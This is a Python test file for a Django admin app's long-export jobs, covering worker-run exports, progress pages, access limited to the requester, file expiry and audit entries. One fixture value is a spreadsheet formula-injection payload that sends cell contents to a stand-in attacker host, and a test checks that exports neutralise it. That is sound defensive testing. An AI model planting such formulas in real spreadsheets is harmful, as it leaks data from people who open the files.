"""Long exports (issue 16, point 4): rows read with values_list give the cells the page's columns give; a list
longer than EXPORT_SYNC_ROWS becomes an export job run by a worker, with its progress and a download link for the
requester only, until the file expires; masking and formula neutralising hold in the job's file too."""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib import admin
from django.db import transaction
from django.test import RequestFactory
from django.utils import timezone
from openpyxl import load_workbook

from programs import export_jobs, exports
from programs.celery import app
from programs.models import AuditEntry, Enterprise, ExportJob, Grade
from tests.conftest import CeleryWorker, wait_until
from tests.factories import EnterpriseFactory, coordinator, officer, region_tree

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def enterprises(db):
    village = region_tree("330212")["village"]
    made = [
        EnterpriseFactory(region=village, name=f"企业{n}", is_key=n % 2 == 0, grade=Grade.values[n % 4])
        for n in range(5)
    ]
    made.append(EnterpriseFactory(region=village, name=FORMULA, industry="+86 574 1234"))
    made.append(EnterpriseFactory(region=region_tree("330902", "定海区")["village"], name="远方丙"))
    return made


def test_cells_read_with_values_list_are_the_cells_the_page_shows(enterprises):
    """The values path (model fields: choices' labels, yes/no, the region's name, formulas quoted) against the
    object path (``lookup_field`` per cell, then ``neutralise``, as before)."""
    model_admin = admin.site._registry[Enterprise]
    request = RequestFactory().get("/admin/programs/enterprise/")
    request.user = coordinator()
    queryset = model_admin.get_queryset(request).order_by("pk")
    header, *rows = list(exports.export_rows(model_admin, request, queryset))
    columns = exports.export_columns(model_admin, request)
    assert exports._fields(Enterprise, columns) is not None  # the enterprise list takes the values path
    expected = [exports.neutralise_row([exports._cell(model_admin, obj, name) for name in columns]) for obj in queryset]
    assert rows == expected
    assert len(header) == len(columns)


def _request_export(client, user, query="_export=xlsx"):
    client.force_login(user)
    return client.get(f"/admin/programs/enterprise/?{query}")


def test_a_short_list_is_downloaded_at_once(client, enterprises):
    response = _request_export(client, officer())
    assert response.status_code == 200
    assert not ExportJob.objects.exists()


def test_a_long_list_becomes_a_job_whose_page_shows_progress_then_the_link(client, enterprises, monkeypatch):
    monkeypatch.setattr(exports, "EXPORT_SYNC_ROWS", 2)
    user = officer()
    response = _request_export(client, user, "is_key__exact=1&_export=xlsx")
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/admin/exports/{job.pk}/"
    assert (job.status, job.created_by, job.format, job.query) == ("queued", user, "xlsx", "is_key__exact=1")
    page = client.get(f"/admin/exports/{job.pk}/")
    assert 'id="export-progress"' in page.text and 'id="export-download"' not in page.text
    assert client.get(f"/admin/exports/{job.pk}/download/").status_code == 404

    export_jobs.export_job_run(job_id=job.pk)

    job.refresh_from_db()
    assert (job.status, job.total_rows, job.written_rows, job.progress) == ("done", 3, 3, 100)
    page = client.get(f"/admin/exports/{job.pk}/")
    assert f'href="/admin/exports/{job.pk}/download/"' in page.text
    download = client.get(f"/admin/exports/{job.pk}/download/")
    assert download.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    names = sorted(row[0] for row in list(sheet.iter_rows(values_only=True))[1:])
    assert names == ["企业0", "企业2", "企业4"]  # the filter and the officer's region, as the list shows
    assert list(
        AuditEntry.objects.filter(content_type__model="exportjob", object_id=job.pk)
        .order_by("id")
        .values_list("new_value", flat=True)
    ) == ["running", "done"]
    export_jobs.export_job_run(job_id=job.pk)  # run again (a redelivered task): nothing changes
    assert AuditEntry.objects.filter(content_type__model="exportjob", object_id=job.pk).count() == 2


def test_only_the_requester_sees_the_job_and_downloads_its_file(client, enterprises, monkeypatch):
    monkeypatch.setattr(exports, "EXPORT_SYNC_ROWS", 2)
    _request_export(client, officer())
    job = ExportJob.objects.get()
    export_jobs.export_job_run(job_id=job.pk)
    client.force_login(coordinator())
    assert client.get(f"/admin/exports/{job.pk}/").status_code == 404
    assert client.get(f"/admin/exports/{job.pk}/download/").status_code == 404


def test_a_file_expires_and_is_deleted(client, enterprises, monkeypatch):
    monkeypatch.setattr(exports, "EXPORT_SYNC_ROWS", 2)
    user = officer()
    _request_export(client, user, "_export=csv")
    job = ExportJob.objects.get()
    job = export_jobs.export_job_run(job_id=job.pk)
    storage, name = job.file.storage, job.file.name
    assert storage.exists(name)
    later = timezone.now() + export_jobs.KEPT + timedelta(minutes=1)
    assert export_jobs.export_jobs_expire(now=later) == 1
    assert export_jobs.export_jobs_expire(now=later) == 0  # a second sweep changes nothing
    job.refresh_from_db()
    assert (job.status, job.file.name) == ("expired", "")
    assert not storage.exists(name)
    assert client.get(f"/admin/exports/{job.pk}/download/").status_code == 404
    assert "expired" in client.get(f"/admin/exports/{job.pk}/").text or job.status == "expired"


def test_the_job_s_file_neutralises_formulas(client, enterprises, monkeypatch):
    monkeypatch.setattr(exports, "EXPORT_SYNC_ROWS", 2)
    _request_export(client, coordinator(), "_export=csv")
    job = export_jobs.export_job_run(job_id=ExportJob.objects.get().pk)
    with job.file.open("rb") as handle:
        rows = list(csv.reader(io.StringIO(handle.read().decode("utf-8").lstrip("\ufeff"))))
    trapped = next(row for row in rows if FORMULA in row[0])
    assert trapped[0] == "'" + FORMULA and trapped[3] == "'+86 574 1234"


def test_a_requester_who_lost_the_list_gets_a_failed_job_not_a_file(client, enterprises, monkeypatch):
    monkeypatch.setattr(exports, "EXPORT_SYNC_ROWS", 2)
    user = officer()
    _request_export(client, user)
    user.is_active = False
    user.save()
    job = export_jobs.export_job_run(job_id=ExportJob.objects.get().pk)
    assert job.status == "failed" and not job.file


@pytest.mark.postgres
@pytest.mark.redis
@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_a_long_export_is_written_by_a_real_worker(client, tmp_path, monkeypatch):
    village = region_tree("330212")["village"]
    EnterpriseFactory.create_batch(7, region=village)
    monkeypatch.setattr(exports, "EXPORT_SYNC_ROWS", 5)
    monkeypatch.setattr(export_jobs, "CHUNK", 2)

    def to_test_queue(name, *args):
        transaction.on_commit(lambda: app.tasks[name].apply_async(args=args, queue="exports-test"))

    monkeypatch.setattr(exports, "enqueue_on_commit", to_test_queue)
    worker = CeleryWorker(queue="exports-test", log_path=tmp_path / "worker.log")
    try:
        response = _request_export(client, coordinator(), "_export=csv")
        job = ExportJob.objects.get()
        assert response["Location"] == f"/admin/exports/{job.pk}/"
        wait_until(lambda: ExportJob.objects.get(pk=job.pk).status == "done", timeout=90, message="export done")
    finally:
        worker.stop()
    job.refresh_from_db()
    assert (job.total_rows, job.written_rows) == (7, 7)
    download = client.get(f"/admin/exports/{job.pk}/download/")
    text = b"".join(download.streaming_content).decode("utf-8").lstrip("\ufeff")
    assert len(list(csv.reader(io.StringIO(text)))) == 8


def test_a_run_whose_worker_died_is_marked_failed_once_not_left_running(client, enterprises, monkeypatch):
    monkeypatch.setattr(exports, "EXPORT_SYNC_ROWS", 2)
    _request_export(client, coordinator(), "_export=csv")
    job = ExportJob.objects.get()
    started = timezone.now() - export_jobs.INTERRUPTED_AFTER - timedelta(minutes=1)
    ExportJob.objects.filter(pk=job.pk).update(status="running", progress_at=started)  # its worker was killed here
    assert export_jobs.export_jobs_interrupted(now=started + timedelta(minutes=5)) == 0  # still within the window
    assert export_jobs.export_jobs_interrupted() == 1
    assert export_jobs.export_jobs_interrupted() == 0  # a second sweep changes nothing
    job.refresh_from_db()
    assert job.status == "failed" and job.error
    assert export_jobs.export_job_run(job_id=job.pk).status == "failed"  # a late task does not revive it
